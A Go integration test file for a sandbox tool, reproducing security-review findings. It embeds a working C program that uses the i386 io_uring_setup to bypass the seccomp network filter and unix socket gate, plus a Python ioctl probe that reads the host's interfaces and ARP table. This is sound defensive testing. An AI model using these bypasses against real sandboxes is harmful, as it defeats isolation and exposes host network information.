//go:build amd64

package integration

// Repro tests from review 38 (branch rv38), an outside review of the
// filtered network (pkg/netfilter, pkg/notify's connect trap, the unix
// gate as the trap's sibling). Each TestReview38* here FAILS on purpose on
// the code reviewed, and passes once its finding is fixed. Only the host's
// loopback and path sockets the test makes are used.

import (
	"bytes"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// uringI386C makes an io_uring with the i386 ABI's io_uring_setup (nr 425,
// int $0x80 from a 64-bit program: no 32-bit library needed; its params in
// memory below 4 GiB), maps its rings with the native mmap, and submits
// IORING_OP_CONNECT with the native io_uring_enter: no connect(2) is made,
// so nothing reaches the notification filter.
//
//	probe           only the io_uring
//	inet FD PORT    FD is a socket the filtered network installed: connect
//	                it to AF_UNSPEC (disconnects it), then to the host's
//	                127.0.0.1:PORT, and write a line there
//	unix PATH       connect a fresh unix stream socket to PATH, write a line
//
// Each step prints "KEY ok" or "KEY ERRNAME".
const uringI386C = `
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <linux/io_uring.h>

static int ring;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static long setup386(struct io_uring_params *p) {
	long ret;
	__asm__ volatile ("int $0x80" : "=a"(ret) : "a"(425L), "b"(8L), "c"((long)p) : "memory");
	return ret;
}

static int uring(void) {
	struct io_uring_params *p = mmap(0, 4096, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT, -1, 0);
	if (p == MAP_FAILED) return -errno;
	memset(p, 0, sizeof *p);
	long r = setup386(p);
	if (r < 0) return (int)r;
	ring = (int)r;
	size_t sqsz = p->sq_off.array + p->sq_entries * sizeof(unsigned);
	size_t cqsz = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
	if (cqsz > sqsz) sqsz = cqsz;
	char *sq = mmap(0, sqsz, PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED) return -errno;
	char *cq = sq;
	if (!(p->features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(0, cqsz, PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring, IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED) return -errno;
	}
	sqes = mmap(0, p->sq_entries * sizeof(struct io_uring_sqe), PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sqes == MAP_FAILED) return -errno;
	sq_tail = (unsigned *)(sq + p->sq_off.tail);
	sq_mask = (unsigned *)(sq + p->sq_off.ring_mask);
	sq_array = (unsigned *)(sq + p->sq_off.array);
	cq_head = (unsigned *)(cq + p->cq_off.head);
	cq_tail = (unsigned *)(cq + p->cq_off.tail);
	cq_mask = (unsigned *)(cq + p->cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + p->cq_off.cqes);
	return 0;
}

static int uconnect(int fd, void *sa, unsigned len) {
	unsigned tail = *sq_tail, i = tail & *sq_mask;
	struct io_uring_sqe *e = &sqes[i];
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_CONNECT;
	e->fd = fd;
	e->addr = (unsigned long)sa;
	e->off = len;
	sq_array[i] = i;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(426, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
	unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
	int res = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static void say(const char *k, int r) {
	if (r >= 0) printf("%s ok\n", k); else printf("%s %s\n", k, strerrorname_np(-r));
	fflush(stdout);
}

int main(int argc, char **argv) {
	if (argc < 2) return 2;
	int r = uring();
	say("uring", r);
	if (r < 0 || !strcmp(argv[1], "probe")) return 0;
	if (!strcmp(argv[1], "inet") && argc == 4) {
		int fd = atoi(argv[2]);
		struct sockaddr sa = { .sa_family = AF_UNSPEC };
		say("unspec", uconnect(fd, &sa, sizeof sa));
		struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[3])) };
		in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		r = uconnect(fd, &in, sizeof in);
		say("connect", r);
		if (r == 0) say("write", write(fd, "leaked through io_uring\n", 24) < 0 ? -errno : 0);
	} else if (!strcmp(argv[1], "unix") && argc == 3) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un un = { .sun_family = AF_UNIX };
		strncpy(un.sun_path, argv[2], sizeof un.sun_path - 1);
		r = uconnect(fd, &un, sizeof un);
		say("unix", r);
		if (r == 0) say("write", write(fd, "leaked through io_uring\n", 24) < 0 ? -errno : 0);
	}
	return 0;
}
`

// buildUringI386 compiles uringI386C and checks that, on the host outside
// nsbox, the i386 io_uring_setup gives an io_uring; it skips otherwise.
func buildUringI386(t *testing.T) []byte {
	t.Helper()
	cc, err := exec.LookPath("gcc")
	if err != nil {
		t.Skip("gcc is not installed: the test builds its i386-call program with it")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "u.c")
	if err := os.WriteFile(src, []byte(uringI386C), 0o644); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "uring386")
	if out, err := exec.Command(cc, "-static", "-O1", "-o", bin, src).CombinedOutput(); err != nil {
		t.Skipf("cannot build the program (linux/io_uring.h missing?): %v\n%s", err, out)
	}
	out, _ := exec.Command(bin, "probe").Output()
	if strings.TrimSpace(string(out)) != "uring ok" {
		t.Skipf("on the host, outside nsbox, the i386 io_uring_setup gives %q (no IA-32 emulation, or io_uring disabled): nothing to test", out)
	}
	b, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// recordingServer listens on the host's 127.0.0.1 and keeps what each
// connection sends (up to one line) until the test ends.
type recordingServer struct {
	port  int
	conns atomic.Int64
	mu    sync.Mutex
	got   bytes.Buffer
}

func newRecordingServer(t *testing.T) *recordingServer {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	s := &recordingServer{port: ln.Addr().(*net.TCPAddr).Port}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.conns.Add(1)
			go func() {
				defer c.Close()
				buf := make([]byte, 256)
				n, _ := c.Read(buf)
				s.mu.Lock()
				s.got.Write(buf[:n])
				s.mu.Unlock()
			}()
		}
	}()
	return s
}

func (s *recordingServer) data() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.got.String()
}

// uringReconnectPy connects to good.test:argv[1] (allowed: the filtered
// network installs a socket of the host's network namespace), then execs
// the io_uring program on that socket with argv[2], a host port no rule
// allows.
const uringReconnectPy = `
import os, socket, sys
s = socket.create_connection(("good.test", int(sys.argv[1])), timeout=20)
s.setblocking(True)
print("allowed ok", flush=True)
os.set_inheritable(s.fileno(), True)
os.execv("./uring386", ["uring386", "inet", str(s.fileno()), sys.argv[2]])
`

// TestReview38IoUringI386PastFilteredNetwork (MEDIUM: the whole allowlist
// falls, but only under `--seccomp unconfined` or a custom profile that
// lets the i386 ABI and io_uring run, the case the docs promise holds):
// the notification filter (pkg/notify filter.go) answers the native
// io_uring_setup with ENOSYS, because IORING_OP_CONNECT and
// IORING_OP_SENDMSG make no syscall it could trap, and docs/security.md
// ("Host unix sockets by path", step 1) promises this "holds also under
// --seccomp unconfined". Its i386 block (foreignSocketCalls) refuses
// socketcall and the direct socket calls but not the i386 io_uring_setup
// (425): a 64-bit program calls it with int $0x80 and gets a working
// io_uring (the same hole as TestNetworkFilteredRefusesVsockI386, found
// by an earlier review for socket(AF_VSOCK)). Attack: connect to an
// allowed name (the installed socket is the host's), then through the
// ring connect it to AF_UNSPEC (which disconnects it; the trap's EISCONN
// never sees it) and to any host address and port: here the host's
// 127.0.0.1 on a port no rule allows, which receives the program's data.
// The whole allowlist is void for such a program (any address the host
// reaches, also its own loopback services). Fix: refuse the i386
// io_uring_setup (and, for safety, io_uring_enter/register) in the
// foreign block, as the Landlock backend's socket filter already does
// (it refuses every foreign ABI call: "uring EACCES" there).
func TestReview38IoUringI386PastFilteredNetwork(t *testing.T) {
	requirePython(t)
	prog := buildUringI386(t)
	eachUser(t, func(t *testing.T, u user) {
		_, _, ws, prof, port := filteredRig(t, u)
		secret := newRecordingServer(t)
		u.writeFile(t, filepath.Join(ws, "uring386"), string(prog), 0o755)
		r := u.run(t, &runOpts{dir: ws}, "run", "--profile", prof, "--seccomp", "unconfined",
			"--allow-host", "good.test:"+port, "--add-host", "good.test:127.0.0.1", "--",
			"/usr/bin/python3", "-c", uringReconnectPy, port, strconv.Itoa(secret.port))
		t.Logf("sandbox: %s", strings.ReplaceAll(strings.TrimSpace(r.stdout), "\n", "; "))
		res := netResults(r.stdout)
		if res["allowed"] != "ok" {
			t.Fatalf("the allowed connect was not made: nothing tested\nstdout: %s\nstderr: %s", r.stdout, r.stderr)
		}
		if res["uring"] == "ok" {
			t.Errorf("under a filtered network with --seccomp unconfined, the i386 io_uring_setup gives an io_uring: its IORING_OP_CONNECT is never trapped")
		}
		if res["connect"] == "ok" {
			t.Errorf("IORING_OP_CONNECT re-aimed the installed host socket at the host's 127.0.0.1:%d, a port no rule allows (unspec %s, write %s)", secret.port, res["unspec"], res["write"])
		}
		settle()
		if n := secret.conns.Load(); n != 0 {
			t.Errorf("the host server no rule allows saw %d connection(s), data %q", n, secret.data())
		}
	})
}

// TestReview38IoUringI386PastUnixGate (MEDIUM, same precondition and root
// cause as above): the unix socket gate refuses connects to path
// sockets outside the writable places, and io_uring is refused so that
// IORING_OP_CONNECT cannot walk around it, "also under --seccomp
// unconfined" (docs/security.md). The i386 io_uring_setup is not refused:
// a program connects through the ring to a host socket the gate refuses
// to a plain connect(2) (EACCES), and the host service answers (here a
// 0777 socket under /var/tmp; in life a database's, an agent's, LXD's).
func TestReview38IoUringI386PastUnixGate(t *testing.T) {
	requirePython(t)
	prog := buildUringI386(t)
	eachUser(t, func(t *testing.T, u user) {
		ws := u.tempDir(t)
		host, n := hostSocket(t, "/var/tmp")
		u.writeFile(t, filepath.Join(ws, "uring386"), string(prog), 0o755)
		// The gate's refusal of a plain connect, as a control.
		plain := u.run(t, &runOpts{dir: ws}, "run", "--seccomp", "unconfined", "--", "python3", "-c", connectPy, host)
		if !strings.Contains(plain.stdout, host+" EACCES") {
			t.Fatalf("control: a plain connect to %s is not refused by the gate: %s\nstderr: %s", host, plain.stdout, plain.stderr)
		}
		r := u.run(t, &runOpts{dir: ws}, "run", "--seccomp", "unconfined", "--", "./uring386", "unix", host)
		t.Logf("sandbox: %s", strings.ReplaceAll(strings.TrimSpace(r.stdout), "\n", "; "))
		res := netResults(r.stdout)
		if res["uring"] == "ok" {
			t.Errorf("with --seccomp unconfined, the i386 io_uring_setup gives an io_uring inside: its IORING_OP_CONNECT is never trapped")
		}
		if res["unix"] == "ok" {
			t.Errorf("IORING_OP_CONNECT reached the host socket %s that the gate refuses (write %s)", host, res["write"])
		}
		settle()
		if c := n.Load(); c != 0 {
			t.Errorf("the host socket's server saw %d connection(s) from the sandbox", c)
		}
	})
}

// ifconfPyLib is the Python the ioctl probes share: ifconf(s) lists
// (name, IPv4 address) of each interface SIOCGIFCONF gives on socket (or
// fd) s.
const ifconfPyLib = `
import array, fcntl, os, socket, stat, struct, sys
SIOCGIFCONF, SIOCGARP = 0x8912, 0x8954
def ifconf(s):
    buf = array.array("B", b"\0" * 8192)
    n = struct.unpack("iL", fcntl.ioctl(s, SIOCGIFCONF, struct.pack("iL", len(buf), buf.buffer_info()[0])))[0]
    b = buf.tobytes()[:n]
    return [(b[i:i+16].split(b"\0")[0].decode(), socket.inet_ntoa(b[i+20:i+24])) for i in range(0, n, 40)]
`

// ifconfPy prints the interfaces SIOCGIFCONF lists on a socket of the
// sandbox's own (socket()) and lo's index (SIOCGIFINDEX) there, and on a
// socket the filtered network installed (a connect to good.test:argv[1]):
// "own NAME,NAME", "ownindex N" and "installed NAME=ADDR,..." (or
// "installed errno=N" once refused); then asks SIOCGARP, on the installed
// socket, for the host's neighbour table entry of each address in argv[2:] on each listed
// interface ("arp ADDR MAC" when one answers).
const ifconfPy = ifconfPyLib + `
print("own", ",".join(n for n, _ in ifconf(socket.socket())), flush=True)
SIOCGIFINDEX = 0x8933
r = fcntl.ioctl(socket.socket(), SIOCGIFINDEX, struct.pack("16si20x", b"lo", 0))
print("ownindex", struct.unpack("16si20x", r)[1], flush=True)
s = socket.create_connection(("good.test", int(sys.argv[1])), timeout=20)
try:
    ifs = ifconf(s)
    print("installed", ",".join(n + "=" + a for n, a in ifs), flush=True)
except OSError as e:
    ifs = [("lo", ""), ("eth0", "")]
    print("installed", "errno=" + str(e.errno), flush=True)
for ip in sys.argv[2:]:
    for name, _ in ifs:
        req = (struct.pack("=H2x4s8x", socket.AF_INET, socket.inet_aton(ip)) + struct.pack("=H14x", 1)
               + struct.pack("=i", 0) + struct.pack("=H14x", 0) + name.encode().ljust(16, b"\0"))
        try:
            r = fcntl.ioctl(s, SIOCGARP, req)
            print("arp", ip, r[18:24].hex(":"), flush=True)
        except OSError:
            pass
`

// hostNeighbours returns the IPv4 addresses in the host's ARP table.
func hostNeighbours() []string {
	b, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return nil
	}
	var out []string
	for i, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); i > 0 && len(f) > 3 && f[3] != "00:00:00:00:00:00" {
			out = append(out, f[0])
		}
	}
	return out
}

// TestReview38InstalledSocketAnswersHostIoctls (LOW, information
// disclosure): a socket the filtered network installs is one of the
// host's network namespace, and the interface ioctls a socket answers are
// its namespace's (sock_ioctl -> dev_ioctl(sock_net(sk)), arp_ioctl),
// none of which the filter or the default profile refuses. On it,
// SIOCGIFCONF lists every host interface with its IPv4 address (a VPN's,
// a container bridge's, the LAN's: more than the one source address that
// getsockname shows and docs/security.md admits), and SIOCGARP (no
// privilege asked) reads the host's neighbour table: which LAN hosts the
// host talked to, and their MACs. The sandbox's own namespace shows only
// lo, and /proc/net is its own: the installed socket is a window into the
// host's network configuration that the new network namespace otherwise
// closes. (Interface names and MACs are also in the host's /sys, which the
// docs list as not hidden; addresses and neighbours are not.) Fix:
// refuse socket ioctls other than the data-path ones (FIONREAD, SIOCOUTQ,
// SIOCATMARK, FIONBIO...) on sockets of the host's namespace, or at
// least SIOCGIF*, SIOCGARP and SIOCETHTOOL, in the notification filter
// under a filtered network.
func TestReview38InstalledSocketAnswersHostIoctls(t *testing.T) {
	requirePython(t)
	hostIf, _, _ := hostIPv4Interface()
	if hostIf == "" {
		t.Skip("the host has no interface with an IPv4 address besides lo: nothing to disclose")
	}
	neigh := hostNeighbours()
	eachUser(t, func(t *testing.T, u user) {
		_, _, ws, prof, port := filteredRig(t, u)
		args := append([]string{"run", "--profile", prof,
			"--allow-host", "good.test:" + port, "--add-host", "good.test:127.0.0.1", "--",
			"/usr/bin/python3", "-c", ifconfPy, port}, neigh...)
		r := u.run(t, &runOpts{dir: ws}, args...)
		t.Logf("sandbox: %s", strings.ReplaceAll(strings.TrimSpace(r.stdout), "\n", "; "))
		res := netResults(r.stdout)
		if res["own"] != "lo" {
			t.Fatalf("control: the sandbox's own socket lists %q, not lo alone\nstdout: %s\nstderr: %s", res["own"], r.stdout, r.stderr)
		}
		// The supervisor answers these for the sandbox's own sockets
		// (copying the ifreq in and out): lo is its first interface.
		if res["ownindex"] != "1" {
			t.Errorf("SIOCGIFINDEX of lo on the sandbox's own socket: %q, want 1", res["ownindex"])
		}
		if _, ok := res["installed"]; !ok {
			t.Fatalf("the allowed connect was not made: nothing tested\nstdout: %s\nstderr: %s", r.stdout, r.stderr)
		}
		if strings.Contains(res["installed"], hostIf+"=") {
			t.Errorf("SIOCGIFCONF on the installed socket lists the host's interfaces and addresses (%s): the host's network configuration is readable inside", res["installed"])
		}
		if a, ok := res["arp"]; ok {
			t.Errorf("SIOCGARP on the installed socket reads the host's neighbour table (%s)", a)
		}
	})
}
